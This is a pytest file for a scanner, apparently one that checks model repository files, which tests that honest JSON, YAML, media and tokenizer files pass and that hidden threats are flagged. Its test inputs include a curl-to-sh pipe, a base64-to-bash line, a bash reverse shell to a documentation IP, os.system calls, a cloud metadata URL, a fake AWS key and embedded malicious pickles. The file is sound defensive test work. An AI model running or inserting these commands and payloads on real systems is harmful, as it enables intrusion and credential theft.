"""Texts of every kind that lies in repositories: what is honest passes, what hides something is told."""

import base64
import json
import struct
import zlib

import pytest

from fastness.core.findings import Severity
from fastness.core.sources import BytesSource
from fastness.models.scan import Outcome, Report
from fastness.models.scan.budget import Budget, ScanSettings
from fastness.models.scan.configs import JUDGES, Pairs
from fastness.models.scan.jsons import NotJson, parse, scan
from fastness.models.scan.texts import hidden_file
from fastness.models.scan.yamls import HUGE, NotYaml
from fastness.models.scan.yamls import parse as parse_yaml
from tests.unit.models.scan.artifacts import EVIL, proto, report_of, rules_of
from tests.unit.models.scan.written import fixture

KEY = "AKIA" + "Q7ZT3MNPLK2WXY5R"
LARGE = ", ".join(f'"token{i}": {i}' for i in range(160_000))


def png(*chunks: tuple[bytes, bytes]) -> bytes:
    body = b"".join(struct.pack(">I", len(d)) + n + d + struct.pack(">I", zlib.crc32(n + d)) for n, d in chunks)
    return b"\x89PNG\r\n\x1a\n" + body


PNG = png((b"IHDR", bytes(13)), (b"IDAT", zlib.compress(bytes(9))), (b"IEND", b""))
JPEG = fixture("repositories", "card-with-pictures", "assets/picture.jpg")
GIF = fixture("repositories", "card-with-pictures", "assets/picture.gif")
WEBP = fixture("repositories", "card-with-pictures", "assets/picture.webp")
WAV = fixture("repositories", "card-with-pictures", "assets/tone.wav")
SPM = fixture("repositories", "sentencepiece-bpe", "tokenizer.model")
OGG = b"OggS\0\x02" + bytes(20) + b"\x01\x03abc"
PARQUET = fixture("data_tables", "parquet-plain", "a.parquet")

PASSES: dict[str, tuple[str, bytes | str]] = {
    "an object": ("config.json", '{"a": 1}'),
    "an object without a name": ("config", '{"a": 1}'),
    "a mark in front": ("config.json", '\ufeff{"a": 1}'),
    "UTF-16": ("config.json", '{"a": "é"}'.encode("utf-16")),
    "a number": ("x.json", "1"),
    "not a number": ("x.json", '{"loss": NaN, "best": -Infinity}'),
    "lines of JSON called JSON": ("data.json", '{"a": 1}\n\n{"a": 2}\n'),
    "many lines of JSON called JSON": ("data.json", '{"a": "some text"}\n' * 150_000),
    "a packed script": ("app.min.js", "var a='\x07\x1f';" + "x" * 400),
    "a first text": ("00README", "Read this"),
    "a table that begins like a pickle": ("results.csv", "const_p1,const_p2\n1,2\n.9,.8\n"),
    "notes that begin like a number": ("notes.txt", "Git v2.30.1 Release Notes\n\nThis release fixes it.\n"),
    "large": ("tokenizer.json", f'{{"model": {{{LARGE}}}, "merges": ["a b"]}}'),
    "a card": ("README.md", "---\nlicense: mit\n---\n# A model\n\n```python\nimport os\nos.system('ls')\n```\n"),
    "a licence": ("LICENSE", "Permission is hereby granted"),
    "a licence with a name in front": ("XSIMD_LICENSE", "Redistribution and use"),
    "a vocabulary": ("vocab.txt", "cat\ndog\neval\nsystem\n(\n.\n"),
    "labels": ("labels.txt", "int\nos\nsystem\n"),
    "Latin-1": ("README.md", "Müller".encode("latin-1")),
    "merges": ("merges.txt", "#version: 0.2\nĠ t\nh e\n"),
    "a table": ("table.csv", "c,d\n1,2\n"),
    "lines of JSON": ("data.jsonl", '{"a": 1}\n{"a": 2}\n'),
    "settings": ("config.yaml", "channels:\n- conda-forge\nlr: 1e-3\nname: &n x\nother: *n\n"),
    "several documents": ("config.yml", "a: 1\n---\nb: 2\n"),
    "tags of data": ("config.yaml", "a: !!python/tuple [1, 2]\nb: !!binary aGk=\nc: !!set {x}\nd: !!str 1\n"),
    "merged settings": ("config.yaml", "a: &a {x: 1}\nb:\n  <<: *a\n  y: 2\n"),
    "a template": ("chat_template.jinja", "{% for m in messages %}{{ m.content }}{% endfor %}"),
    "a PNG": ("a.png", PNG), "a JPEG": ("a.jpg", JPEG), "a GIF": ("a.gif", GIF), "a WebP": ("a.webp", WEBP), "a sound": ("a.wav", WAV),
    "an Ogg": ("a.ogg", OGG), "an SVG": ("a.svg", "<svg xmlns='x'><path d='M0 0'/></svg>"), "a paper": ("a.pdf", b"%PDF-1.4\n1 0 obj\n%%EOF\n"),
    "a tokenizer": ("tokenizer.model", SPM), "ranks": ("tokenizer.model", "IQ== 0\nIg== 1\n"), "ranks by name": ("a.tiktoken", "IQ== 0\n"),
    "long digits": ("hashes.txt", "0123456789abcdef" * 40),
    "a picture within a card": ("README.md", f"![a](data:image/png;base64,{base64.b64encode(PNG * 4).decode()})"),
}  # fmt: skip


@pytest.mark.parametrize(("name", "data"), PASSES.values(), ids=PASSES)
def test_honest_texts_pass(name: str, data: bytes | str) -> None:
    report = scanned(name, data)
    assert report.outcome is Outcome.PASS
    assert [finding for finding in report.verdict.findings if finding.severity > Severity.INFO] == []
    assert report.explained_bytes == report.size


def scanned(name: str, data: bytes | str) -> Report:
    return report_of(data.encode() if isinstance(data, str) else data, name)


ENCODED = base64.b64encode(EVIL + bytes(80)).decode()
TOLD: dict[str, tuple[str, bytes | str, str, Outcome]] = {
    "not JSON": ("config.json", "{'a': 1}", "json-malformed", Outcome.INCOMPLETE),
    "half of JSON": ("config.json", '{"a": [1, ', "json-malformed", Outcome.INCOMPLETE),
    "JSON and more": ("config.json", '{"a": 1} x', "json-malformed", Outcome.INCOMPLETE),
    "lines of which one is not JSON": ("data.json", '{"a": 1}\n{"a": \n', "json-malformed", Outcome.INCOMPLETE),
    "two documents on a line": ("data.json", '{"a": 1} {"a": 1}', "json-malformed", Outcome.INCOMPLETE),
    "code in a later line": ("data.json", '{"a": 1}\n{"auto_map": "x.Y"}\n', "code-in-model", Outcome.REVIEW),
    "code in a late line": ("data.json", '{"a": "some text"}\n' * 150_000 + '{"auto_map": "x.Y"}', "code-in-model", Outcome.REVIEW),
    "very much under one key": ("config.json", '{"auto_map": [' + '"x.Y",' * 500_000 + "1]}", "json-malformed", Outcome.INCOMPLETE),
    "YAML of many lines": ("config.yaml", "- []\n" * 500_000, "yaml-malformed", Outcome.INCOMPLETE),
    "large and not JSON": ("tokenizer.json", f"{{{LARGE}, }}", "json-malformed", Outcome.INCOMPLETE),
    "nested deep": ("config.json", "[" * 1_000_000, "json-malformed", Outcome.INCOMPLETE),
    "nested deep, whole": ("config.json", "[" * 100_000 + "]" * 100_000, "json-malformed", Outcome.INCOMPLETE),
    "a key twice": ("config.json", '{"a": 1, "a": 2}', "json-repeated-key", Outcome.PASS),
    "a credential in JSON": ("config.json", f'{{"key": "{KEY}"}}', "credential-in-model", Outcome.REVIEW),
    "a credential in a large file": ("tokenizer.json", f'{{{LARGE}, "key": "{KEY}"}}', "credential-in-model", Outcome.REVIEW),
    "a credential in a card": ("README.md", f"Use {KEY} for it.", "credential-in-model", Outcome.REVIEW),
    "a credential in settings": ("config.yaml", f"key: {KEY}", "credential-in-model", Outcome.REVIEW),
    "a pickle called JSON": ("config.json", EVIL, "name-mismatch", Outcome.BLOCK),
    "bytes called text": ("notes.txt", bytes(range(256)), "text-not-text", Outcome.INCOMPLETE),
    "a pickle in a text": ("README.md", f"data: {ENCODED}", "pickle-dangerous-call", Outcome.BLOCK),
    "a pickle in a key": ("config.json", json.dumps({"x": ENCODED}), "pickle-dangerous-call", Outcome.BLOCK),
    "a pickle in settings": ("config.yaml", f"x: {ENCODED}", "pickle-dangerous-call", Outcome.BLOCK),
    "a pickle in digits": ("notes.txt", (EVIL + bytes(80)).hex(), "pickle-dangerous-call", Outcome.BLOCK),
    "the cloud's address": ("config.json", '{"a": "http://169.254.169.254/latest/meta-data"}', "url-inside", Outcome.BLOCK),
    "marks of direction": ("README.md", "a \u202e b", "text-invisible", Outcome.PASS),
    "not YAML": ("config.yaml", "a: [1", "yaml-malformed", Outcome.INCOMPLETE),
    "an alias of nothing": ("config.yaml", "a: *b", "yaml-malformed", Outcome.INCOMPLETE),
    "YAML nested deep": ("config.yaml", "[" * 10_000, "yaml-malformed", Outcome.INCOMPLETE),
    "a tag of a program": ("config.yaml", "a: !Load x", "yaml-tag", Outcome.REVIEW),
    "bytes behind a PNG": ("a.png", PNG + b"more", "media-trailing-bytes", Outcome.INCOMPLETE),
    "a pickle behind a JPEG": ("a.jpg", JPEG + EVIL, "media-trailing-bytes", Outcome.BLOCK),
    "bytes behind a GIF": ("a.gif", GIF + b"more", "media-trailing-bytes", Outcome.INCOMPLETE),
    "bytes behind a sound": ("a.wav", WAV + b"more", "media-trailing-bytes", Outcome.INCOMPLETE),
    "bytes behind an Ogg": ("a.ogg", OGG + b"x" * 30, "media-trailing-bytes", Outcome.INCOMPLETE),
    "bytes behind a paper": ("a.pdf", b"%PDF-1.4\n%%EOF\nmore", "media-trailing-bytes", Outcome.INCOMPLETE),
    "half a PNG": ("a.png", PNG[:30], "media-broken", Outcome.PASS),
    "a script in an SVG": ("a.svg", "<svg><script>x()</script></svg>", "media-script", Outcome.REVIEW),
    "a handler in an SVG": ("a.svg", "<svg onload='x()'></svg>", "media-script", Outcome.REVIEW),
    "a script in a paper": ("a.pdf", b"%PDF-1.4\n/JavaScript (x)\n%%EOF\n", "media-script", Outcome.REVIEW),
    "an unknown field of a tokenizer": ("tokenizer.model", SPM + proto(9, b"x"), "sentencepiece-unknown-field", Outcome.REVIEW),
    "half a tokenizer": ("tokenizer.model", SPM[:-3], "sentencepiece-malformed", Outcome.INCOMPLETE),
    "a column of a Python type": ("a.parquet", PARQUET.replace(b"pandas", b"arrow.py_extension_type", 1), "table-python-type", Outcome.BLOCK),
    "half a table": ("a.parquet", PARQUET[:-2], "parquet-malformed", Outcome.INCOMPLETE),
    "a table whose footer is too long": ("a.parquet", PARQUET[:-8] + b"\xff\xff\xff\x7fPAR1", "parquet-malformed", Outcome.INCOMPLETE),
    "source": ("model.py", "x = 1\n", "code-in-model", Outcome.REVIEW),
    "source that runs at once": ("model.py", "import os\nos.system('x')\n", "code-dangerous", Outcome.BLOCK),
    "source in another encoding": ("model.py", "# coding: utf-7\nx = 1\n", "python-deceptive", Outcome.REVIEW),
    "source with marks of direction": ("model.py", "x = '\u202e'\n", "python-deceptive", Outcome.REVIEW),
    "source that is none": ("model.py", "print 1\n", "python-unreadable", Outcome.REVIEW),
    "a script": ("install.sh", "echo hi\n", "code-in-model", Outcome.REVIEW),
    "a script that fetches": ("install.sh", "curl -s https://example.com/x | sh\n", "shell-runs-what-it-fetches", Outcome.BLOCK),
    "a script that decodes": ("install.sh", "echo aGk= | base64 -d | bash\n", "shell-runs-what-it-fetches", Outcome.BLOCK),
    "a script that connects": ("install.sh", "bash -i >& /dev/tcp/198.51.100.7/1 0>&1\n", "shell-runs-what-it-fetches", Outcome.BLOCK),
}  # fmt: skip


@pytest.mark.parametrize(("name", "data", "rule", "outcome"), TOLD.values(), ids=TOLD)
def test_what_is_wrong_is_told(name: str, data: bytes | str, rule: str, outcome: Outcome) -> None:
    report = scanned(name, data)
    assert rule in rules_of(report)
    assert report.outcome is outcome


CORNERS = [
    '{"a":1}', "[1,2,3]", '{"a":[1,{"b":null}],"c":"x"}', "[]", "{}", "1", '"x"', "[1,]", '{"a":1,}', '{"a" 1}', "[1 2]", "{a:1}",
    "[[[]]]", "[1,2", '{"a":1}x', "", "[-]", '{"a":}', "]", "[}", "{]", '{"a":1]', '"\x01"', '{"auto_map":"x.Y","a":1}', "nul", "tru", "01",
    '{"\\u0061uto_map": "x.Y", "z": 1}', '{"z": [1, {"auto_map": ["a", {"b": "c"}]}]}', "[NaN, Infinity, -Infinity]", "{,}", "[,1]", '{"a":1 "b":2}',
]  # fmt: skip


@pytest.mark.parametrize("text", CORNERS)
def test_the_scan_of_large_json_agrees_with_the_parser(text: str) -> None:
    def wanted(tree: object) -> list[object]:
        if isinstance(tree, Pairs):
            here = [flat(value) for key, value in tree.members if key == "auto_map"]
            return here + [inner for key, value in tree.members if key != "auto_map" for inner in wanted(value)]
        return [inner for value in tree for inner in wanted(value)] if isinstance(tree, list) else []

    def flat(tree: object) -> object:
        if isinstance(tree, Pairs):
            return [(key, flat(value)) for key, value in tree.members]
        return [flat(value) for value in tree] if isinstance(tree, list) else tree

    try:
        expected = wanted(parse(text).tree)
    except NotJson:
        with pytest.raises(NotJson):
            scan(BytesSource("x", text.encode()), JUDGES, Budget(ScanSettings()))
    else:
        found = scan(BytesSource("x", text.encode()), JUDGES, Budget(ScanSettings())).tree
        assert wanted(found) == expected


def test_a_document_of_aliases_is_counted_and_not_written_out() -> None:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 10)]
    assert parse_yaml("\n".join(lines)).written_out > HUGE
    report = scanned("config.yaml", "\n".join(lines))
    assert (report.outcome, rules_of(report)) == (Outcome.REVIEW, {"yaml-bomb"})


def test_a_node_that_holds_itself_ends() -> None:
    assert len(parse_yaml("&a [*a, *a]").trees) == 1
    assert scanned("config.yaml", "a: &a {b: *a}").outcome is Outcome.PASS


@pytest.mark.parametrize("text", ["{", "a: b: c", "\t- x", "%YAML 9.9\n--- [", "- !<", "? ? ?\n  :::\n- :"])
def test_what_is_no_yaml_raises_its_own_error(text: str) -> None:
    try:
        parse_yaml(text)
    except NotYaml:
        return
    assert parse_yaml(text).trees


def test_plain_words_are_no_hidden_files() -> None:
    assert hidden_file("A" * 4000) is None
    assert hidden_file("abcdefgh" * 100) is None
    assert hidden_file(base64.b64encode(b"MZ" + bytes(200)).decode()) is None
